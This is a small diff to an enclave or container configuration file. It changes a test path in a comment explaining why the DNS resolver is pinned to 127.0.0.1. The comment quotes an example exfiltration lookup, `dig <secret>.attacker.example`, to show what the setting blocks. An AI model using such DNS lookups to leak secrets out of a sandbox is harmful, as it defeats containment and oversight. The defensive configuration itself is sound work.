@@ -16,7 +16,7 @@ IMAGE_INIT = "/opt/enclave/bin/tini"
 # host's resolv.conf is even dialled from the host's namespace, so `dig <secret>.attacker.example`
 # would leave the enclave. A resolver named here is dialled inside the container's own network
 # namespace (measured on 20.10), where nothing listens on port 53: outside names fail inside the
-# container, and no query reaches the host or beyond (tests/security/test_dns.py).
+# container, and no query reaches the host or beyond (tests/integration/security/test_dns.py).
 DNS_NOWHERE = "127.0.0.1"
 
 
